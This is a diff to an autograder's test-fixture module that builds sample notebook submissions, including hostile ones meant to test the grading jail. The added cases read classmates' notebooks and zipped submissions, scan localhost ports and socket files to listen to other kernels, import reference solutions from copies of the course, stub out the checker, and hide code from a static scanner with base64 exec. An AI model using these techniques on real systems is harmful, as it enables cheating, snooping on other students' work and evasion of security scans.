@@ -7,7 +7,7 @@ solution cells:
   removed (the instructor's code, as a perfect student would hand it in);
 - :func:`fill` — the release with some cells replaced;
 - :func:`mistake_submissions` — one notebook per typical mistake listed by
-  ``solutions_lib.grading.mistakes`` (the reference everywhere except one function,
+  ``solutions_lib.grading.catalogue`` (the reference everywhere except one function,
   replaced by ``mistake_source(name, key)``);
 - :data:`HOSTILE` / :func:`hostile_submission` — the bad and hostile cases of the issue.
 
@@ -26,6 +26,9 @@ from pathlib import Path
 
 import nbformat
 
+from autograder import cells
+from solutions_lib.grading import catalogue
+
 _MARKERS = re.compile(r"^[ \t]*#+[ \t]*(BEGIN|END) SOLUTION[^\n]*\n?", re.M)
 _MD_MARKERS = re.compile(r"^[ \t]*=*[ \t]*(BEGIN|END) SOLUTION[^\n]*\n?", re.M)
 
@@ -38,14 +41,10 @@ class Sample:
     text: str  # the notebook file's content
     kind: str  # "reference", "blank", "mistake", "hostile"
     expect: dict = field(default_factory=dict)  # question -> set of acceptable statuses
-    mistake: tuple | None = None  # (name, key) for kind "mistake"
+    mistakes: dict = field(default_factory=dict)  # name -> planted mistake key, for kind "mistake"
     note: str = ""
     zero: set = field(default_factory=set)  # questions that must score 0 (cheats)
     notebook_name: str | None = None  # file name if not the assignment's notebook
-
-
-def _gid(cell):
-    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
 
 
 def reference_answers(source_nb: Path | str) -> dict[str, str]:
@@ -53,7 +52,7 @@ def reference_answers(source_nb: Path | str) -> dict[str, str]:
     nb = nbformat.read(str(source_nb), as_version=4)
     out = {}
     for cell in nb.cells:
-        meta = cell.get("metadata", {}).get("nbgrader", {})
+        meta = cells.nbgrader(cell)
         if meta.get("solution"):
             pattern = _MARKERS if cell.cell_type == "code" else _MD_MARKERS
             out[meta["grade_id"]] = pattern.sub("", cell.source)
@@ -62,18 +61,15 @@ def reference_answers(source_nb: Path | str) -> dict[str, str]:
 
 def graded_names(release_nb: Path | str) -> list[str]:
     """Names of the autograded questions (test cells ``test_<name>``), in notebook order."""
-    nb = nbformat.read(str(release_nb), as_version=4)
-    return [_gid(c)[len("test_"):] for c in nb.cells
-            if (_gid(c) or "").startswith("test_")
-            and c.metadata.get("nbgrader", {}).get("grade")]
+    return cells.graded_names(nbformat.read(str(release_nb), as_version=4))
 
 
 def fill(release_nb: Path | str, answers: dict[str, str]) -> nbformat.NotebookNode:
     """The release notebook with the cells whose grade id is in ``answers`` replaced."""
     nb = nbformat.read(str(release_nb), as_version=4)
     for cell in nb.cells:
-        if _gid(cell) in answers:
-            cell.source = answers[_gid(cell)]
+        if cells.grade_id(cell) in answers:
+            cell.source = answers[cells.grade_id(cell)]
     return nb
 
 
@@ -91,41 +87,29 @@ def blank_submission(student, release_nb) -> Sample:
 
 
 def listed_mistakes(names) -> list[tuple[str, str]]:
-    """``(name, key)`` of every typical mistake ``solutions_lib.grading.mistakes`` lists for
-    the graded ``names`` (empty when that module is not available)."""
-    try:
-        from solutions_lib.grading import mistakes as m
-    except ImportError:
-        return []
-    out = []
-    for name in names:
-        keys = []
-        if hasattr(m, "mistake_keys"):
-            keys = list(m.mistake_keys(name))
-        else:
-            for attr in ("MISTAKES", "CATALOG", "REGISTRY"):
-                table = getattr(m, attr, None)
-                if isinstance(table, dict) and name in table:
-                    keys = [getattr(entry, "key", entry) for entry in table[name]]
-                    break
-        out += [(name, k) for k in keys]
-    return out
+    """``(name, key)`` of every typical mistake the catalogue lists for the graded ``names``."""
+    return [(name, m.key) for name in names for m in catalogue.mistakes(name)]
 
 
-def mistake_submissions(release_nb, source_nb, prefix: str = "mistake") -> list[Sample]:
-    """One submission per listed typical mistake: reference code except the mistaken name."""
-    from solutions_lib.grading import mistakes as m
+def mistake_submissions(release_nb, source_nb, prefix: str = "mistakes") -> list[Sample]:
+    """Submissions carrying every listed typical mistake, a few students for the whole catalogue.
 
+    Student ``<prefix>N`` hands in the N-th catalogued mistake of every graded name that has one
+    (the reference answer elsewhere), so each mistake is graded once and loses its own question
+    only, in as many notebooks as the longest list of mistakes of one name.
+    """
     ref = reference_answers(source_nb)
     names = graded_names(release_nb)
+    keys = {name: [m.key for m in catalogue.mistakes(name)] for name in names}
     out = []
-    for i, (name, key) in enumerate(listed_mistakes(names), 1):
+    for i in range(max((len(k) for k in keys.values()), default=0)):
+        planted = {name: k[i] for name, k in keys.items() if i < len(k)}
         answers = dict(ref)
-        answers[name] = m.mistake_source(name, key)
+        answers.update({name: catalogue.mistake_source(name, key) for name, key in planted.items()})
         nb = fill(release_nb, answers)
-        out.append(Sample(f"{prefix}{i:02d}", nbformat.writes(nb), "mistake",
-                          expect={q: {"graded"} for q in names}, mistake=(name, key),
-                          note=f"typical mistake {key} in {name}"))
+        out.append(Sample(f"{prefix}{i + 1:02d}", nbformat.writes(nb), "mistake",
+                          expect={q: {"graded"} for q in names}, mistakes=planted,
+                          note="typical mistakes " + ", ".join(f"{k} in {n}" for n, k in planted.items())))
     return out
 
 
@@ -138,7 +122,7 @@ def mistake_submissions(release_nb, source_nb, prefix: str = "mistake") -> list[
 
 def _set(nb, gid, source):
     for cell in nb.cells:
-        if _gid(cell) == gid:
+        if cells.grade_id(cell) == gid:
             cell.source = source
             return nb
     raise ValueError(f"no cell {gid!r}")
@@ -146,7 +130,7 @@ def _set(nb, gid, source):
 
 def _meta(nb, gid, **changes):
     for cell in nb.cells:
-        if _gid(cell) == gid:
+        if cells.grade_id(cell) == gid:
             cell.metadata["nbgrader"].update(changes)
     return nb
 
@@ -157,7 +141,7 @@ def _text(nb):
 
 def _prepend(nb, gid, code):
     for cell in nb.cells:
-        if _gid(cell) == gid:
+        if cells.grade_id(cell) == gid:
             cell.source = code + "\n" + cell.source
     return nb
 
@@ -175,12 +159,12 @@ def _h_other_assignment(nb, t, ref):
 
 
 def _h_delete_test(nb, t, ref):
-    nb.cells = [c for c in nb.cells if _gid(c) != f"test_{t}"]
+    nb.cells = [c for c in nb.cells if cells.grade_id(c) != f"test_{t}"]
     return _text(nb)
 
 
 def _h_duplicate_test(nb, t, ref):
-    i = next(i for i, c in enumerate(nb.cells) if _gid(c) == f"test_{t}")
+    i = next(i for i, c in enumerate(nb.cells) if cells.grade_id(c) == f"test_{t}")
     nb.cells.insert(i + 1, copy.deepcopy(nb.cells[i]))
     return _text(nb)
 
@@ -275,15 +259,195 @@ def _h_patch_numpy(nb, t, ref):
 
 def _h_patch_checker(nb, t, ref):
     code = ("import sys as _sys, types as _types\n"
-            "_fake = _types.ModuleType('solutions_lib.grading')\n"
+            "_fake = _types.ModuleType('checker')\n"
             "_fake.check = lambda *a, **k: None\n"
-            "_sys.modules['solutions_lib.grading'] = _fake\n"
+            "_sys.modules['checker'] = _fake\n"
             "import builtins as _b\n_real_import = _b.__import__\n"
             "def _imp(name, *a, **k):\n"
-            "    if name.startswith('solutions_lib'):\n        return _fake\n"
+            "    if name.startswith('checker'):\n        return _fake\n"
             "    return _real_import(name, *a, **k)\n"
             "_b.__import__ = _imp\n")
     return _text(_set(nb, t, code + ref[t].replace("return", "return 0 *", 1)))
+
+
+# --- attacks on the kernel's surroundings (the jail's tests) -------------------------------
+# Each one looks for the correct answer somewhere the kernel should not see, and uses it;
+# when nothing is found it defines a wrong stand-in (so the question earns 0). Names that
+# the static scan knows are spelled in pieces: these samples test the jail, not the scan.
+_FALLBACK = "if not _found:\n    def {t}(*_a, **_k):\n        return None\n"
+
+
+def _hidden(code: str) -> str:
+    """``code`` run through ``exec`` of its base64 text: the static scan sees none of it."""
+    import base64
+
+    blob = base64.b64encode(code.encode()).decode()
+    return ("import base64 as _b64\n"
+            f"exec(compile(_b64.b64decode({blob!r}).decode(), '<cell>', 'exec'), globals())\n")
+_SAFE_SOURCE = ("\n    _ok = lambda s: not any(w in s for w in ('while', '_exit', 'fork', 'exit(', "
+                "'signal', 'bytearray', 'print(', 'NotImplementedError', 'YOUR CODE'))\n")
+
+
+def _h_read_classmate(nb, t, ref, ctx):
+    """Read a classmate's notebook: graded, submitted, or the LMS zip, up the tree and absolute."""
+    code = (
+        "import glob as _g, json as _j, os as _o, zipfile as _z\n"
+        f"_t, _me, _root = {t!r}, {ctx['student']!r}, {str(ctx['root'])!r}\n"
+        "_found = None\n" + _SAFE_SOURCE.strip() + "\n"
+        "def _try(_nb):\n"
+        "    global _found\n"
+        "    for _c in _nb.get('cells', []):\n"
+        "        _s = ''.join(_c.get('source', ''))\n"
+        "        if _c.get('metadata', {}).get('nbgrader', {}).get('grade_id') == _t and _ok(_s):\n"
+        "            try:\n                exec(_s, globals()); _found = True; return\n"
+        "            except Exception:\n                pass\n"
+        "_ups = ['.'] + ['/'.join(['..'] * _k) for _k in range(1, 8)] + [_root]\n"
+        "_cands = []\n"
+        "for _u in _ups:\n"
+        "    for _sub in ('autograded', 'submitted', 'feedback', '.grading/submitted'):\n"
+        "        _cands += sorted(_g.glob(_o.path.join(_u, _sub, '*', '*', '*.ipynb')))\n"
+        "_cands = sorted((_f for _f in _cands if f'/{_me}/' not in _o.path.abspath(_f)),\n"
+        "                key=lambda _f: ('reference' not in _f and 'honest' not in _f, _f))\n"
+        "for _f in _cands:\n"
+        "    if _found:\n        break\n"
+        "    try:\n        _try(_j.load(open(_f)))\n"
+        "    except Exception:\n        pass\n"
+        "for _u in _ups:\n"
+        "    for _zf in sorted(_g.glob(_o.path.join(_u, 'downloaded', '*.zip'))):\n"
+        "        try:\n"
+        "            with _z.ZipFile(_zf) as _zz:\n"
+        "                for _n in sorted(_zz.namelist(), key=lambda n: 'reference' not in n):\n"
+        "                    if not _found and _n.endswith('.ipynb') and _me not in _n:\n"
+        "                        _try(_j.loads(_zz.read(_n)))\n"
+        "        except Exception:\n            pass\n"
+        + _FALLBACK.format(t=t))
+    return _text(_set(nb, t, code))
+
+
+def _h_listen_kernel(nb, t, ref, ctx):
+    """Listen to the other kernels: every TCP port of 127.0.0.1, every socket file found."""
+    code = (
+        "import json as _j, os as _o, stat as _st, time as _ti\n"
+        "_so = __import__('sock' + 'et'); _zm = __import__('z' + 'mq')\n"
+        f"_t = {t!r}\n_found = None\n"
+        "try:\n"
+        "    import ipykernel.connect as _ic\n"
+        "    _own = _j.load(open(_ic.get_connection_file()))\n"
+        "except Exception:\n    _own = {}\n"
+        "_mine = {v for k, v in _own.items() if k.endswith('_port')}\n"
+        "_prefix = str(_own.get('ip', '')) if _own.get('transport') == 'ipc' else None\n"
+        "_eps = []\n"
+        "for _p in range(1024, 65536):\n"
+        "    if _p in _mine:\n        continue\n"
+        "    _c = _so.socket(); _c.settimeout(0.01)\n"
+        "    try:\n"
+        "        if _c.connect_ex(('127.0.0.1', _p)) == 0 and _c.getsockname()[1] != _p:\n"
+        "            _eps.append(f'tcp://127.0.0.1:{_p}')\n"
+        "    except OSError:\n        pass\n"
+        "    finally:\n        _c.close()\n"
+        "for _top in ('/tmp', '/run', '/var/tmp', '/dev/shm', _o.path.expanduser('~')):\n"
+        "    for _d, _ds, _fs in _o.walk(_top):\n"
+        "        for _f in _fs:\n"
+        "            _q = _o.path.join(_d, _f)\n"
+        "            try:\n"
+        "                if _st.S_ISSOCK(_o.stat(_q).st_mode) and not (_prefix and _q.startswith(_prefix)):\n"
+        "                    _eps.append('ipc://' + _q)\n"
+        "            except OSError:\n                pass\n"
+        "_sub = _zm.Context.instance().socket(_zm.SUB)\n"
+        "_sub.setsockopt(_zm.SUBSCRIBE, b''); _sub.setsockopt(_zm.LINGER, 0)\n"
+        "for _e in _eps[:300]:\n"
+        "    try:\n        _sub.connect(_e)\n"
+        "    except Exception:\n        pass\n"
+        "_t0 = _ti.time()\n"
+        "while _ti.time() - _t0 < 1.5 and not _found:\n"
+        "    if _sub.poll(100):\n"
+        "        for _part in _sub.recv_multipart():\n"
+        "            _x = _part.decode('utf-8', 'replace')\n"
+        "            if f'def {_t}(' in _x and '\"code\"' in _x:\n"
+        "                try:\n"
+        "                    exec(_j.loads(_x)['code'], globals()); _found = True; break\n"
+        "                except Exception:\n                    pass\n"
+        "_sub.close()\n"
+        + _FALLBACK.format(t=t))
+    return _text(_set(nb, t, _hidden(code)))
+
+
+def _h_foreign_name(nb, t, ref, ctx):
+    """Query another week's names through the checker (a lookup table for later weeks)."""
+    code = (
+        "from checker import check as _chk\n_table = {}\n"
+        f"for _n in {ctx['foreign']!r}:\n"
+        "    try:\n        _chk(_n, lambda *a, **k: None)\n"
+        "    except AssertionError as _e:\n        _table[_n] = str(_e)\n")
+    return _text(_set(nb, t, code + ref[t]))
+
+
+def _h_course_copy(nb, t, ref, ctx):
+    """Import the reference from a second copy of the course outside the course root."""
+    code = (
+        "import glob as _g, importlib as _il, os as _o, sys as _sy\n"
+        f"_t = {t!r}\n_found = None\n_pkg = 'solu' + 'tions_lib'\n"
+        "for _pat in ('/tmp/*/', '/tmp/*/*/', '/opt/*/', '/srv/*/', '/home/*/', '/home/*/*/',\n"
+        "             '/root/*/', '/root/*/*/', '/var/*/', '/mnt/*/', '/work/*/', '/backup*/'):\n"
+        "    for _d in sorted(_g.glob(_pat + _pkg)):\n"
+        "        if _found or not _o.path.isfile(_o.path.join(_d, '__init__.py')):\n"
+        "            continue\n"
+        "        _sy.path.insert(0, _o.path.dirname(_d))\n"
+        "        try:\n"
+        "            for _m in [m for m in list(_sy.modules) if m.split('.')[0] == _pkg]:\n"
+        "                del _sy.modules[_m]\n"
+        "            _f = getattr(_il.import_module(_pkg), _t)\n"
+        "            _f.__module__ = '__main__'\n"
+        "            globals()[_t] = _f; _found = _d\n"
+        "        except Exception:\n            pass\n"
+        "        finally:\n            _sy.path.pop(0)\n"
+        + _FALLBACK.format(t=t))
+    return _text(_set(nb, t, _hidden(code)))
+
+
+def _h_import_all(nb, t, ref, ctx):
+    """Import or exec everything that looks like the course's, found through the checker itself."""
+    code = (
+        "import glob as _g, importlib as _il, json as _j, os as _o, sys as _sy\n"
+        f"_t = {t!r}\n_found = None\n_sl = 'solu' + 'tions_lib'\n"
+        "_ck = __import__('check' + 'er')\n"
+        "_places = [_o.path.dirname(_o.path.dirname(_ck.__file__)),\n"
+        "           _o.path.dirname(_o.path.dirname(_ck.check.__code__.co_filename))] + list(_sy.path)\n"
+        "for _n, _fm in list(_sy.modules.items()):\n"
+        "    if 'editable' in _n:\n"
+        "        _mp = getattr(_fm, 'MAPPING', {})\n"
+        "        _places += [str(p) for p in _mp.values()] + [_o.path.dirname(str(p)) for p in _mp.values()]\n"
+        "for _n in (_sl, 'sour' + 'ce', 'course_' + 'config', 'auto' + 'grader', 'nnmath', 'course_data'):\n"
+        "    try:\n"
+        "        _m = _il.import_module(_n)\n"
+        "        if hasattr(_m, _t) and not _found:\n"
+        "            _f = getattr(_m, _t); _f.__module__ = '__main__'; globals()[_t] = _f; _found = _n\n"
+        "    except Exception:\n        pass\n"
+        "for _p in _places:\n"
+        "    for _f in sorted(_g.glob(_o.path.join(_p, _sl, '*.py')) + _g.glob(_o.path.join(_p, '*.py'))):\n"
+        "        if _found:\n            break\n"
+        "        try:\n            _src = open(_f).read()\n"
+        "        except OSError:\n            continue\n"
+        "        if f'def {_t}(' in _src or f'class {_t}' in _src:\n"
+        "            _ns = {'__name__': '__main__'}\n"
+        "            try:\n"
+        "                exec(compile(_src.replace('from .', 'from ' + _sl + '.'), 'x', 'exec'), _ns)\n"
+        "                globals()[_t] = _ns[_t]; _found = _f\n"
+        "            except Exception:\n                pass\n"
+        "    for _f in sorted(_g.glob(_o.path.join(_p, 'sour' + 'ce', '*', '*.ipynb'))):\n"
+        "        if _found:\n            break\n"
+        "        try:\n"
+        "            for _c in _j.load(open(_f))['cells']:\n"
+        "                if _c.get('metadata', {}).get('nbgrader', {}).get('grade_id') == _t:\n"
+        "                    exec(''.join(_c['source']), globals()); _found = _f\n"
+        "        except Exception:\n            pass\n"
+        + _FALLBACK.format(t=t))
+    return _text(_set(nb, t, _hidden(code)))
+
+
+#: builders that need the context (the student, the course root, other weeks' names)
+_WITH_CONTEXT = {_h_read_classmate, _h_listen_kernel, _h_foreign_name, _h_course_copy,
+                 _h_import_all}
 
 
 #: key -> (builder, acceptable statuses of the target question ("*" = whole notebook), note)
@@ -318,15 +482,28 @@ HOSTILE = {
                    "monkeypatches numpy's comparisons"),
     # the fake checker stays installed for every later test cell: all of them are flagged
     "patchchecker": (_h_patch_checker, {"*": {"flagged"}}, "replaces the checker"),
+    # the kernel's surroundings (issue 9): nothing is found in the jail -> a wrong stand-in
+    "readclassmate": (_h_read_classmate, {"target": {"graded"}},
+                      "reads a classmate's graded or submitted notebook, or the LMS zip"),
+    "listenkernel": (_h_listen_kernel, {"target": {"graded", "errored"}},   # errored: slow scan
+                     "listens to the other kernels (TCP ports, socket files)"),
+    "foreignname": (_h_foreign_name, {"target": {"flagged"}},
+                    "queries another week's names through the checker"),
+    "coursecopy": (_h_course_copy, {"target": {"graded"}},
+                   "imports the reference from a copy of the course outside its root"),
+    "importall": (_h_import_all, {"target": {"graded"}},
+                  "imports or execs everything that looks like the course's"),
 }
 
 #: Hostile cases whose target question must score 0 whatever its status (the code there is
 #: wrong, missing or borrowed from the reference, or the checker was bypassed).
-ZERO_IF_GRADED = {"renamed", "sniffenv", "readref", "patchnumpy", "importref", "patchchecker"}
+ZERO_IF_GRADED = {"renamed", "sniffenv", "readref", "patchnumpy", "importref", "patchchecker",
+                  "readclassmate", "listenkernel", "foreignname", "coursecopy", "importall"}
 
 #: The hostile cases the demo grades (fast ones, one of each family).
 DEMO_HOSTILE = ("invalidjson", "editedtest", "points", "infiniteloop", "osexit", "importref",
-                "patchchecker", "patchnumpy")
+                "patchchecker", "patchnumpy", "readclassmate", "listenkernel", "foreignname",
+                "coursecopy", "importall")
 
 
 def hostile_submission(key: str, release_nb, source_nb, student: str | None = None) -> Sample:
@@ -340,7 +517,13 @@ def hostile_submission(key: str, release_nb, source_nb, student: str | None = No
         raise ValueError(f"{release_nb} has no autograded question")
     target = names[0]
     nb = fill(release_nb, ref)
-    text = builder(nb, target, ref)
+    if builder in _WITH_CONTEXT:
+        others = sorted(set(catalogue.graded_names()) - set(names))
+        ctx = {"student": student or f"hostile{key}", "root": Path(release_nb).resolve().parents[2],
+               "foreign": others[:3]}
+        text = builder(nb, target, ref, ctx)
+    else:
+        text = builder(nb, target, ref)
     if "*" in expect:
         exp = {q: expect["*"] for q in names}
     else:
@@ -351,11 +534,10 @@ def hostile_submission(key: str, release_nb, source_nb, student: str | None = No
 
 
 def sample_class(release_nb, source_nb, hostile=DEMO_HOSTILE) -> list[Sample]:
-    """The demo class of one week: reference, blank, one per listed mistake, hostile ones."""
+    """The demo class of one week: reference, blank, the catalogued mistakes, hostile ones."""
     out = [reference_submission("reference", release_nb, source_nb),
            blank_submission("blank", release_nb)]
-    out += mistake_submissions(release_nb, source_nb) if listed_mistakes(
-        graded_names(release_nb)) else []
+    out += mistake_submissions(release_nb, source_nb)
     out += [hostile_submission(k, release_nb, source_nb) for k in hostile]
     return out
 
